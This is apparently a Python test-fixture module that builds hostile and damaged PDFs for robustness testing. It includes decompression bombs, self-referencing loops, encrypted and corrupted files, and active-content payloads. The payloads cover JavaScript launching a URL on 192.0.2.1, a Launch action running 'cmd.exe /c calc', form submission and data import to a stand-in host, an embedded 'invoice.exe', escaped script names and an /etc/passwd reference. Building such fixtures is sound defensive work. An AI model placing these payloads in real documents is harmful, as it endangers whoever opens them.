"""Hostile and damaged PDFs, written object by object."""

import io
import random
import zlib
from collections.abc import Callable, Iterator

from tests.hostile.kinds import MB, Expect, Found, zeros

NAMED, SHOWN, EITHER = Expect.NAMED, Expect.SHOWN, Expect.EITHER
TEXT = b"BT /F1 24 Tf 72 700 Td (Evidence) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def written(objects: list[bytes], trailer: bytes = b"", head: bytes = b"%PDF-1.7\n") -> bytes:
    """Object n is ``objects[n - 1]``; the first is the catalog."""
    out = bytearray(head)
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objects) + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n" % (entries, len(content)) + content + b"\nendstream"


def page_of(
    content: bytes = b"",
    *more: bytes,
    catalog: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    box: bytes = b"[0 0 595 842]",
    trailer: bytes = b"",
    head: bytes = b"%PDF-1.7\n",
) -> bytes:
    """One page; ``content`` is object 4 as it is written, ``more`` begin with object 6."""
    return written(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R"
            b"/Resources<</Font<</F1 5 0 R>>%s>>%s>>" % (box, resources, page),
            content or stream(TEXT),
            FONT,
            *more,
        ],
        trailer,
        head,
    )


def image(entries: bytes, content: bytes) -> bytes:
    """A page filled by one picture."""
    return page_of(
        stream(b"595 0 0 842 0 0 cm /I Do"),
        stream(content, b"/Type/XObject/Subtype/Image" + entries),
        resources=b"/XObject<</I 6 0 R>>",
    )


def pdf_files() -> Iterator[Found]:
    for what, content, expect in (*_bombs(), *_loops(), *_odd_pages()):
        yield Found(what, f"{what}.pdf", content, expect)
    yield from _acting()
    yield from _locked()
    yield from _damaged()


def _bombs() -> Iterator[tuple[str, bytes, Expect]]:
    flate, twice = b"/Filter/FlateDecode", b"/Filter[/FlateDecode/FlateDecode]"
    giga = zeros(1024)
    packed = zlib.compress(giga, 9)
    thrice = b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"
    side = b"/Width 30000/Height 30000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    yield "content of 1 GB", page_of(stream(giga, flate)), EITHER
    yield "content of 1 GB packed twice", page_of(stream(packed, twice)), EITHER
    nested = zlib.compress(zlib.compress(zeros(4096), 9), 9)
    yield "content of 4 GB packed thrice", page_of(stream(nested, thrice)), EITHER
    words = zlib.compress(zeros(200, b"q "), 9)
    yield "content of 100 million signs", page_of(stream(words, twice)), EITHER
    yield "picture of 2.7 GB", image(side + twice, packed), EITHER
    yield "picture of 2.7 GB with nothing in it", image(side, b""), EITHER
    big = b"/Width 20000/Height 20000/BitsPerComponent 1/ColorSpace/DeviceGray"
    yield "picture of 20000 pixels", image(big + flate, zeros(48)), EITHER
    yield (
        "picture of 20000 pixels in fax code",
        image(
            big + b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 20000/Rows 20000>>",
            b"\xff" * 3000,
        ),
        EITHER,
    )
    yield (
        "picture in fax code as wide as can be",
        image(
            b"/Width 2147483647/Height 2147483647/BitsPerComponent 1/ColorSpace/DeviceGray"
            b"/Filter/CCITTFaxDecode/DecodeParms<</K 0/Columns 2147483647/Rows 2147483647>>",
            b"\x00\x01" * 500,
        ),
        EITHER,
    )
    for what, name in (
        ("JBIG2", b"JBIG2Decode"),
        ("JPEG 2000", b"JPXDecode"),
        ("JPEG", b"DCTDecode"),
    ):
        noise = random.Random(what).randbytes(4000)
        yield f"picture with broken {what}", image(big + b"/Filter/" + name, noise), EITHER
    yield "run length of 120 MB", page_of(stream(b"\x81 " * MB, b"/Filter/RunLengthDecode")), EITHER
    many = b"/Filter[" + b"/ASCIIHexDecode" * 2000 + b"]"
    yield "2000 filters on one stream", page_of(stream(b"20" * 5000, many)), EITHER
    predictor = (
        flate + b"/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"
    )
    yield (
        "predictor of endless columns",
        page_of(stream(zlib.compress(b"x" * 999), predictor)),
        EITHER,
    )
    yield from _drawing_bombs(packed, twice)


def _drawing_bombs(packed: bytes, twice: bytes) -> Iterator[tuple[str, bytes, Expect]]:
    yield (
        "font file of 1 GB",
        page_of(
            stream(b"BT /F2 24 Tf 72 700 Td (A) Tj ET"),
            b"<</Type/Font/Subtype/TrueType/BaseFont/Big/FirstChar 65/LastChar 65/Widths[500]"
            b"/FontDescriptor 7 0 R>>",
            b"<</Type/FontDescriptor/FontName/Big/Flags 4/FontFile2 8 0 R>>",
            stream(packed, twice),
            resources=b"/Font<</F2 6 0 R>>",
        ),
        EITHER,
    )
    yield (
        "colour profile of 1 GB",
        page_of(
            stream(b"/C cs 1 0 0 sc 0 0 300 300 re f"),
            stream(packed, twice + b"/N 3"),
            resources=b"/ColorSpace<</C[/ICCBased 6 0 R]>>",
        ),
        EITHER,
    )
    yield (
        "function of 16 dimensions",
        page_of(
            stream(b"/C cs 1 sc 0 0 300 300 re f"),
            stream(
                b"x" * 64,
                b"/FunctionType 0/Domain[" + b"0 1 " * 16 + b"]/Range[0 1 0 1 0 1]"
                b"/Size[" + b"200 " * 16 + b"]/BitsPerSample 8",
            ),
            resources=b"/ColorSpace<</C[/Separation/X/DeviceRGB 6 0 R]>>",
        ),
        EITHER,
    )
    yield (
        "shading of a million steps",
        page_of(
            stream(b"/S sh"),
            b"<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1e9 0 1e9]/Function 7 0 R>>",
            stream(
                b"{" + b"dup mul " * 50_000 + b"}",
                b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]",
            ),
            resources=b"/Shading<</S 6 0 R>>",
        ),
        EITHER,
    )
    tile = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0.0001/Resources<<>>"
    yield (
        "tiles as small as dust",
        page_of(
            stream(b"/Pattern cs /P scn 0 0 595 842 re f"),
            stream(b"0 0 1 1 re f", tile),
            resources=b"/Pattern<</P 6 0 R>>",
        ),
        EITHER,
    )
    dashes = b"[0.000001 0.000001] 0 d 0.1 w " + b"0 0 m 595 842 l S " * 500
    yield "dashes as short as dust", page_of(stream(dashes)), EITHER
    yield "graphics states 100000 deep", page_of(stream(b"q " * 100_000 + TEXT)), EITHER
    yield "clips 20000 deep", page_of(stream(b"0 0 595 842 re W n " * 20_000 + TEXT)), EITHER
    yield (
        "a line of 300000 corners",
        page_of(stream(b"0 0 m " + b"1 1 l 595 842 l " * 150_000 + b"S")),
        EITHER,
    )
    soft = b"<</Type/ExtGState/SMask<</S/Luminosity/G 7 0 R>>>>"
    group = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency/CS/DeviceGray>>"
    yield (
        "mask that masks itself",
        page_of(
            stream(b"/G gs 0 0 300 300 re f"),
            soft,
            stream(b"/G gs 0 0 300 300 re f", group + b"/Resources<</ExtGState<</G 6 0 R>>>>"),
            resources=b"/ExtGState<</G 6 0 R>>",
        ),
        EITHER,
    )
    laughs = [
        stream(
            b"/X Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>>>"
            % (n + 1),
        )
        for n in range(6, 18)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    yield (
        "forms within forms, a billion in all",
        page_of(stream(b"/X Do"), *laughs, last, resources=b"/XObject<</X 6 0 R>>"),
        EITHER,
    )


def _loops() -> Iterator[tuple[str, bytes, Expect]]:
    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>"
    yield (
        "tree of pages that is its own child",
        written([catalog, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
        NAMED,
    )
    yield (
        "two branches of pages that hold each other",
        written(
            [
                catalog,
                b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>",
            ]
        ),
        NAMED,
    )
    yield (
        "page whose parent is itself",
        written(
            [catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", leaf.replace(b"2 0 R", b"3 0 R")]
        ),
        EITHER,
    )
    deep = [
        b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (n - 1, n + 1)
        for n in range(2, 5000)
    ]
    yield "tree of pages 5000 deep", written([catalog, *deep, leaf]), EITHER
    yield (
        "a million pages that are one",
        written(
            [catalog, b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>", leaf]
        ),
        NAMED,
    )
    yield (
        "two thousand million pages claimed",
        written([catalog, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", leaf]),
        EITHER,
    )
    yield (
        "fewer pages than none",
        written([catalog, b"<</Type/Pages/Kids[3 0 R]/Count -5>>", leaf]),
        EITHER,
    )
    yield (
        "pages that are not there",
        written([catalog, b"<</Type/Pages/Kids[9 0 R 10 0 R]/Count 2>>"]),
        NAMED,
    )
    yield "no pages", written([catalog, b"<</Type/Pages/Kids[]/Count 0>>"]), NAMED
    yield "no tree of pages", written([b"<</Type/Catalog>>"]), NAMED
    yield "catalog that is a number", written([b"42"]), NAMED
    yield (
        "drawing that draws itself",
        page_of(stream(b"/X Do"), stream(b"/X Do", form), resources=b"/XObject<</X 6 0 R>>"),
        EITHER,
    )
    yield (
        "letters that are drawn with themselves",
        page_of(
            stream(b"BT /F2 24 Tf (a) Tj ET"),
            b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97"
            b"/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>"
            b"/Resources<</Font<</F2 6 0 R>>>>>>",
            stream(b"BT /F2 1 Tf (a) Tj ET"),
            resources=b"/Font<</F2 6 0 R>>",
        ),
        EITHER,
    )
    yield (
        "pattern painted with itself",
        page_of(
            stream(b"/Pattern cs /P scn 0 0 500 500 re f"),
            stream(
                b"/Pattern cs /P scn 0 0 9 9 re f",
                b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9"
                b"/Resources<</Pattern<</P 6 0 R>>>>",
            ),
            resources=b"/Pattern<</P 6 0 R>>",
        ),
        EITHER,
    )
    yield (
        "length that is its own length",
        page_of(b"<</Length 4 0 R>>\nstream\nq Q\nendstream"),
        EITHER,
    )
    yield "contents that contain themselves", page_of(b"[4 0 R 4 0 R]"), EITHER
    yield (
        "resources that point at each other",
        page_of(stream(b"/X Do"), b"7 0 R", b"6 0 R", page=b"/Annots 6 0 R"),
        EITHER,
    )
    yield (
        "outline that bites its tail",
        page_of(
            b"",
            b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 9>>",
            b"<</Title(x)/Parent 6 0 R/Next 7 0 R/First 7 0 R>>",
            catalog=b"/Outlines 6 0 R",
        ),
        SHOWN,
    )
    yield (
        "names that name themselves",
        page_of(
            b"",
            b"<</Kids[6 0 R]/Limits[(a)(z)]>>",
            catalog=b"/Names<</JavaScript 6 0 R/Dests 6 0 R>>",
        ),
        EITHER,
    )
    yield (
        "note that is its own picture",
        page_of(
            b"",
            b"<</Type/Annot/Subtype/Stamp/Rect[0 0 99 99]/AP<</N 7 0 R>>/Parent 6 0 R/Popup 6 0 R>>",
            stream(b"/X Do", form.replace(b"6 0 R", b"7 0 R")),
            page=b"/Annots[6 0 R 6 0 R]",
        ),
        EITHER,
    )
    yield (
        "100000 notes on one page",
        page_of(
            b"",
            b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]>>",
            page=b"/Annots[" + b"6 0 R " * 100_000 + b"]",
        ),
        EITHER,
    )
    yield (
        "form field that is its own child",
        page_of(
            b"",
            b"<</Fields[7 0 R]/DR<<>>>>",
            b"<</FT/Tx/T(a)/Kids[7 0 R]/Parent 7 0 R/Subtype/Widget/Rect[0 0 9 9]>>",
            catalog=b"/AcroForm 6 0 R",
            page=b"/Annots[7 0 R]",
        ),
        EITHER,
    )
    yield (
        "array 200000 deep",
        page_of(b"", b"[" * 200_000 + b"]" * 200_000, page=b"/X 6 0 R"),
        EITHER,
    )
    yield (
        "dictionary 50000 deep",
        page_of(b"", b"<</A" * 50_000 + b" 1" + b">>" * 50_000, page=b"/X 6 0 R"),
        EITHER,
    )
    whole = page_of()
    start = whole.rindex(b"startxref")
    at = int(whole[start:].split()[1])
    looped = page_of(trailer=b"/Prev %d" % at)
    yield "tables that refer to each other for ever", looped, EITHER
    yield "table that follows itself", whole.replace(b"/Root", b"/Prev %d/Root" % at), EITHER


def _odd_pages() -> Iterator[tuple[str, bytes, Expect]]:
    boxes = {
        "page without extent": b"[0 0 0 0]",
        "page as wide as the world": b"[0 0 1e9 1e9]",
        "page as thin as a thread": b"[0 0 0.001 14400]",
        "page a thousand times as wide as high": b"[0 0 200000 2]",
        "page turned inside out": b"[595 842 0 0]",
        "page measured in words": b"[(a)(b)(c)(d)]",
        "page measured by itself": b"3 0 R",
        "page with too few measures": b"[0 0]",
        "page beyond all numbers": b"[-99999999999999999999 0 99999999999999999999 1]",
    }
    for what, box in boxes.items():
        yield what, page_of(box=box), EITHER
    yield "page turned by 45 degrees", page_of(page=b"/Rotate 45"), EITHER
    yield "page turned a thousand million times", page_of(page=b"/Rotate 900000000000"), EITHER
    yield "page in units of a mile", page_of(page=b"/UserUnit 100000"), EITHER
    yield "page whose content is a dictionary", page_of(b"<</A 1>>"), EITHER
    noise = random.Random(7).randbytes(20_000)
    yield "page full of noise", page_of(stream(noise)), EITHER
    yield "page of unknown operators", page_of(stream(b"1 2 3 zz 4 5 yy " * 5000)), EITHER
    yield "text a kilometre high", page_of(stream(b"BT /F1 1e30 Tf (A) Tj ET")), EITHER


def _acting() -> Iterator[Found]:
    script = b"<</S/JavaScript/JS(app.launchURL('http://192.0.2.1/js');)>>"
    launch = b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"
    uri = b"<</S/URI/URI(http://192.0.2.1/uri)>>"
    submit = b"<</S/SubmitForm/F<</FS/URL/F(http://192.0.2.1/submit)>>>>"
    remote = b"<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\share\\\\x.pdf)/D[0/Fit]/NewWindow true>>"
    imported = b"<</S/ImportData/F(\\\\\\\\192.0.2.1\\\\x.fdf)>>"
    for what, action in (
        ("script", script),
        ("program", launch),
        ("form sent", submit),
        ("data fetched", imported),
    ):
        yield Found(
            f"{what} on opening",
            f"{what}.pdf",
            page_of(catalog=b"/OpenAction" + action),
            SHOWN,
            scripts=True,
        )
        yield Found(
            f"{what} on turning to the page",
            f"{what}-aa.pdf",
            page_of(page=b"/AA<</O%s>>" % action),
            SHOWN,
            scripts=True,
        )
    for what, action in (("web address", uri), ("file of a server", remote)):
        yield Found(
            f"{what} on opening",
            "open.pdf",
            page_of(catalog=b"/OpenAction" + action),
            SHOWN,
            scripts=True,
        )
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A%s>>"
    yield Found(
        "link to a web address", "link.pdf", page_of(b"", link % uri, page=b"/Annots[6 0 R]"), SHOWN
    )
    yield Found(
        "link to a program",
        "link.pdf",
        page_of(b"", link % launch, page=b"/Annots[6 0 R]"),
        SHOWN,
        scripts=True,
    )
    named = b"/Names<</JavaScript<</Names[(a) 6 0 R]>>>>"
    yield Found(
        "script by name", "names.pdf", page_of(b"", script, catalog=named), SHOWN, scripts=True
    )
    hidden = script.replace(b"JavaScript", b"J#61vaScript").replace(b"/JS", b"/J#53")
    yield Found(
        "script written in escapes",
        "escaped.pdf",
        page_of(b"", link % hidden, page=b"/Annots[6 0 R]"),
        SHOWN,
        scripts=True,
    )
    content = b"6 0 " + script
    packed = stream(zlib.compress(content), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    yield Found(
        "script in packed objects", "packed.pdf", page_of(b"", b"null", packed), SHOWN, scripts=True
    )
    attached = (
        b"<</Type/Filespec/F(invoice.exe)/UF(invoice.exe)/EF<</F 7 0 R>>>>",
        stream(b"MZ" + b"\x00" * 200, b"/Type/EmbeddedFile"),
    )
    yield Found(
        "program attached within",
        "embedded.pdf",
        page_of(b"", *attached, catalog=b"/Names<</EmbeddedFiles<</Names[(invoice.exe) 6 0 R]>>>>"),
        SHOWN,
        scripts=True,
    )
    note = b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>"
    yield Found(
        "program pinned on a page",
        "pinned.pdf",
        page_of(b"", *attached, note, page=b"/Annots[8 0 R]"),
        SHOWN,
        scripts=True,
    )
    rich = b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<<>>>>>>"
    yield Found(
        "film that starts itself",
        "rich.pdf",
        page_of(b"", rich, page=b"/Annots[6 0 R]"),
        SHOWN,
        scripts=True,
    )
    xfa = stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script></xdp:xdp>")
    yield Found(
        "form of XFA",
        "xfa.pdf",
        page_of(b"", b"<</Fields[]/XFA 7 0 R>>", xfa, catalog=b"/AcroForm 6 0 R"),
        SHOWN,
        scripts=True,
    )
    field = b"<</FT/Tx/T(a)/Subtype/Widget/Rect[0 0 99 99]/AA<</C%s/F%s>>>>" % (script, script)
    yield Found(
        "field that calculates",
        "field.pdf",
        page_of(
            b"",
            b"<</Fields[7 0 R]/DR<<>>/NeedAppearances true>>",
            field,
            catalog=b"/AcroForm 6 0 R",
            page=b"/Annots[7 0 R]",
        ),
        SHOWN,
        scripts=True,
    )
    outside = stream(b"", b"/F<</FS/URL/F(http://192.0.2.1/content)>>/FFilter/FlateDecode")
    yield Found("content fetched from the net", "outside.pdf", page_of(outside), EITHER)
    outer_image = stream(
        b"",
        b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray"
        b"/F<</FS/URL/F(http://192.0.2.1/picture)>>",
    )
    yield Found(
        "picture fetched from the net",
        "outer.pdf",
        page_of(stream(b"/I Do"), outer_image, resources=b"/XObject<</I 6 0 R>>"),
        EITHER,
    )
    reference = stream(
        b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(/etc/passwd)/Page 0>>"
    )
    yield Found(
        "page of another file",
        "ref.pdf",
        page_of(stream(b"/X Do"), reference, resources=b"/XObject<</X 6 0 R>>"),
        SHOWN,
    )
    harmless = page_of(catalog=b"/OpenAction[3 0 R/Fit]")
    yield Found("page chosen on opening", "goto.pdf", harmless, SHOWN)


def _locked() -> Iterator[Found]:
    for what, revision, user, expect in (
        ("locked with RC4", 3, "secret", NAMED),
        ("locked with AES 128", 4, "secret", NAMED),
        ("locked with AES 256", 6, "secret", NAMED),
        ("only its owner may print, RC4", 3, "", SHOWN),
        ("only its owner may print, AES 128", 4, "", SHOWN),
        ("only its owner may print, AES 256", 6, "", SHOWN),
    ):
        yield Found(what, "locked.pdf", _encrypted(revision, user), expect, encrypted=True)
    odd = page_of(
        trailer=b"/Encrypt<</Filter/Nobody/V 9/R 99/Length 9999/O(x)/U(x)/P -1>>/ID[(a)(a)]"
    )
    yield Found("locked in an unknown way", "locked.pdf", odd, NAMED)
    loop = page_of(
        b"", b"<</Filter/Standard/V 1/R 2/O 6 0 R/U 6 0 R/P 6 0 R>>", trailer=b"/Encrypt 6 0 R"
    )
    yield Found("key that locks itself", "locked.pdf", loop, NAMED, encrypted=True)


def _encrypted(revision: int, user: str) -> bytes:
    import pikepdf

    written_to = io.BytesIO()
    with pikepdf.open(io.BytesIO(page_of())) as document:
        weak = revision == 3
        document.save(
            written_to,
            static_id=True,
            encryption=pikepdf.Encryption(
                owner="owner", user=user, R=revision, aes=not weak, metadata=not weak
            ),
        )
    return written_to.getvalue()


def _damaged() -> Iterator[Found]:
    whole = page_of()
    cut: dict[str, tuple[bytes, Expect]] = {
        "only the first line": (whole[:9], NAMED),
        "cut after a tenth": (whole[: len(whole) // 10], NAMED),
        "cut in the middle": (whole[: len(whole) // 2], EITHER),
        "cut before its end": (whole[:-30], EITHER),
        "without its table": (whole[: whole.index(b"xref\n0")], EITHER),
        "with a table elsewhere": (whole.replace(b"startxref\n", b"startxref\n9"), EITHER),
        "with a table of nonsense": (whole.replace(b" 00000 n", b" abcde n"), EITHER),
        "behind 900 bytes of dirt": (b"\x01" * 900 + whole, EITHER),
        "before 1 MB of dirt": (whole + b"\x01" * MB, EITHER),
        "of a version that never was": (whole.replace(b"%PDF-1.7", b"%PDF-9.9"), EITHER),
        "twice in one file": (whole + whole, SHOWN),
        "with every fiftieth byte wrong": (
            bytes(byte ^ 0x55 if n % 50 == 49 else byte for n, byte in enumerate(whole)),
            EITHER,
        ),
        "followed by noise only": (b"%PDF-1.7\n" + random.Random(1).randbytes(30_000), NAMED),
        "followed by zeros only": (b"%PDF-1.4\n" + b"\x00" * 30_000, NAMED),
    }
    for what, (content, expect) in cut.items():
        yield Found(f"document {what}", "damaged.pdf", content, expect)
    flip: Callable[[int], bytes] = lambda seed: _flipped(whole, seed)  # noqa: E731
    for seed in range(8):
        yield Found(f"document with flipped bits {seed}", "bits.pdf", flip(seed), EITHER)


def _flipped(whole: bytes, seed: int) -> bytes:
    dice = random.Random(seed)
    bits = bytearray(whole)
    for _ in range(20):
        bits[dice.randrange(9, len(bits))] ^= 1 << dice.randrange(8)
    return bytes(bits)
